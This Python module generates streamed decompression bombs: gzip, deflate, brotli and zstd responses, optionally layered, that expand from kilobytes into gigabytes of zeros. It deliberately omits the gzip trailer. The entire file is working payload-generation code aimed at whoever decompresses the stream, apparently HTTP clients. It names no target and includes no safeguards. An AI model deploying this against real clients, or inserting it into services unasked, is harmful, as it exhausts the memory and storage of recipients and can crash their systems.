"""Decompression bombs of any size, made while they are sent: ten gigabytes of zeros are some kilobytes, or less."""

from __future__ import annotations

import zlib
from collections.abc import Iterable, Iterator

import brotli
import zstandard

_PIECE = bytes(1 << 20)


def bomb(codings: Iterable[str], size: int) -> Iterator[bytes]:
    """`size` zeros (whole mebibytes) under `codings`, in pieces. What ends a gzip stream is left out: a check of so
    many bytes takes long, and nobody should come that far."""
    first, *others = codings
    pieces = _FIRST[first](size >> 20)
    for coding in others:
        pieces = _FURTHER[coding](pieces)
    return pieces


def _repeated(head: bytes, bits: int, count: int) -> Iterator[bytes]:
    """Blocks that stand for themselves, so that one is compressed and sent again and again."""
    stream = zlib.compressobj(9, zlib.DEFLATED, bits)
    block = stream.compress(_PIECE) + stream.flush(zlib.Z_FULL_FLUSH)
    yield head
    for _ in range(count):
        yield block


def _first_gzip(count: int) -> Iterator[bytes]:
    return _repeated(b"\x1f\x8b\x08\0\0\0\0\0\2\xff", -zlib.MAX_WBITS, count)


def _first_deflate(count: int) -> Iterator[bytes]:
    return _repeated(b"\x78\xda", -zlib.MAX_WBITS, count)


def _first_brotli(count: int) -> Iterator[bytes]:
    return _brotli(iter([_PIECE] * count))


def _first_zstd(count: int) -> Iterator[bytes]:
    return iter([zstandard.ZstdCompressor(level=1).compress(_PIECE)] * count)


def _gzip(pieces: Iterator[bytes]) -> Iterator[bytes]:
    return _zlib(pieces, zlib.MAX_WBITS | 16)


def _deflate(pieces: Iterator[bytes]) -> Iterator[bytes]:
    return _zlib(pieces, zlib.MAX_WBITS)


def _zlib(pieces: Iterator[bytes], bits: int) -> Iterator[bytes]:
    stream = zlib.compressobj(9, zlib.DEFLATED, bits)
    for piece in pieces:
        if coded := stream.compress(piece):
            yield coded
    yield stream.flush()


def _brotli(pieces: Iterator[bytes]) -> Iterator[bytes]:
    stream = brotli.Compressor(quality=1)
    for piece in pieces:
        if coded := stream.process(piece):
            yield coded
    yield stream.finish()


def _zstd(pieces: Iterator[bytes]) -> Iterator[bytes]:
    stream = zstandard.ZstdCompressor(level=1).compressobj()
    for piece in pieces:
        if coded := stream.compress(piece):
            yield coded
    yield stream.flush()


_FIRST = {"gzip": _first_gzip, "deflate": _first_deflate, "br": _first_brotli, "zstd": _first_zstd}
_FURTHER = {"gzip": _gzip, "deflate": _deflate, "br": _brotli, "zstd": _zstd}
